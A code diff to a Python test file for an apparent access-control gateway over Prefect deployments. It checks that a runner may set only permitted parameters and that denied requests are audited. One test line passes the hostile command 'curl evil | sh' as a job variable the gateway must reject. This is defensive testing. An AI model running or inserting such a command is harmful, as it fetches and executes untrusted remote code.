@@ -41,7 +41,8 @@ def deployment(team: Any) -> dict[str, Any]:
     """A flow, a deployment and a Secret block, created by the developer through the gateway."""
     with as_user(team, "dev") as client:
         flow_id = client.create_flow_from_name(f"gw-flow-{uuid.uuid4().hex[:6]}")
-        deployment_id = client.create_deployment(flow_id=flow_id, name="gw-deployment", parameters={"x": 1})
+        deployment_id = client.create_deployment(flow_id=flow_id, name="gw-deployment", parameters={"x": 1, "y": 1},
+                                                 tags=["runner-sets:x"])
         with temporary_settings({PREFECT_API_URL: team.api(), PREFECT_API_AUTH_STRING: team.tokens["dev"]}):
             Secret(value=SECRET_VALUE).save("gw-secret", overwrite=True)
     return {"flow_id": flow_id, "deployment_id": deployment_id}
@@ -62,7 +63,14 @@ def test_viewer_reads_but_changes_nothing(team: Any, deployment: dict[str, Any])
 def test_runner_starts_with_parameters_but_not_with_job_variables(team: Any, deployment: dict[str, Any]) -> None:
     with as_user(team, "rune") as client:
         run = client.create_flow_run_from_deployment(deployment["deployment_id"], parameters={"x": 2})
-        assert run.parameters == {"x": 2}
+        assert run.parameters == {"x": 2, "y": 1}
+        same = client.create_flow_run_from_deployment(deployment["deployment_id"], parameters={"x": 3, "y": 1})
+        assert same.parameters == {"x": 3, "y": 1}  # y sent as it would be anyway (the UI's custom-run form)
+        before = len(team.audit())
+        assert _status(lambda: client.create_flow_run_from_deployment(
+            deployment["deployment_id"], parameters={"y": 2})) == 403  # y is not runner-settable
+        record = _denied(team, before, 403, "runner-settable (x); not y")
+        assert record["user"] == "rune"
         before = len(team.audit())
         assert _status(lambda: client.create_flow_run_from_deployment(
             deployment["deployment_id"], job_variables={"command": "curl evil | sh"})) == 403
@@ -76,7 +84,7 @@ def test_runner_starts_with_parameters_but_not_with_job_variables(team: Any, dep
         reply = http.patch(f"/w/core/api/deployments/{deployment['deployment_id']}", json={"paused": True})
         assert reply.status_code == 403
     starts = [r for r in team.audit() if r["action"] == "deployment.run" and r["user"] == "rune"]
-    assert starts and str(run.id) in starts[-1]["detail"]["flow_runs"]
+    assert starts and str(run.id) in starts[-2]["detail"]["flow_runs"] and str(same.id) in starts[-1]["detail"]["flow_runs"]
     assert team.running.gateway.store.run_starter("core", str(run.id)) == "rune"
 
 
